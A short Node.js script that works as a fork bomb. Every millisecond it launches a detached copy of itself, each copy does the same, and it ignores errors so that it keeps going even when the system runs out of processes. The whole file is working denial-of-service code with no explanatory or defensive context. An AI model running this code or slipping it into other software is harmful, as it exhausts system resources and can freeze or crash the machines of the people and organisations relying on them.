// Starts itself again and again, in sessions of their own; each of them does.
const { spawn } = require('child_process');
setInterval(() => {
  try {
    spawn(process.execPath, [__filename], { stdio: 'ignore', detached: true }).on('error', () => {});
  } catch { /* no more processes: try again */ }
}, 1);
